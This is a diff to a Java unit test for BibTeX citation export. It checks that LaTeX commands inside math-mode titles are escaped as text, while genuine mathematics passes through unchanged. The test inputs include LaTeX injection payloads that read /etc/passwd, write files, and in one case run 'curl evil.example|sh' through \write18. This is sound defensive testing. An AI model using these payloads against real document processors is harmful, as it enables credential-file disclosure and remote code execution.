@@ -23,7 +23,10 @@ class BibtexTest {
     @ValueSource(strings = {"\\input{/etc/passwd}", "\\immediate\\write18{curl evil.example|sh}", "\\def\\x{\\x}\\x",
             "\\csname input\\endcsname{a}", "^^5cinput{a}", "\\begin{filecontents}{a}b\\end{filecontents}",
             "\\end{document}", "\\includegraphics{a}", "\\renewcommand{\\alpha}{\\beta}", "\\directlua{os.exit()}",
-            "\\catcode`\\a=0", "\\ifx a b\\fi", "\\newwrite\\a", "x_{\\openout3=a}"})
+            "\\catcode`\\a=0", "\\ifx a b\\fi", "\\newwrite\\a", "x_{\\openout3=a}", "\\UseName{input}{/etc/passwd}",
+            "\\csuse{input}{/etc/passwd}", "\\ExpandArgs{c}\\typeout{input}", "\\BVerbatimInput{/etc/passwd}",
+            "\\filedump offset 0 length 9{/etc/passwd}", "\\typein{yes?}", "\\RenewDocumentCommand\\alpha{}{x}",
+            "\\xapptocmd\\alpha{x}{}{}", "\\input\u00e9"})
     void commands_that_are_no_mathematics_are_text(String commands) {
         for (String title : List.of("On $" + commands + "$ and more", "On \\(" + commands + "\\)",
                 "$$" + commands + "$$"))
@@ -32,7 +35,8 @@ class BibtexTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"a \\iff b", "\\begin{pmatrix*}1 & 2\\end{pmatrix*}", "\\begin{cases}1\\end{cases}",
+    @ValueSource(strings = {"a \\iff b", "\\csc x + \\csch y", "\\begin{pmatrix*}1 & 2\\end{pmatrix*}",
+            "\\begin{cases}1\\end{cases}",
             "\\mathcal{O}(n^{\\epsilon})", "\\cA \\defeq \\operatorname{arg\\,min}", "x \\notin \\{1\\}"})
     void mathematics_stays_as_it_is(String maths) {
         assertThat(write(CitationFormat.BIBTEX, paper("On $" + maths + "$ and more").make()))
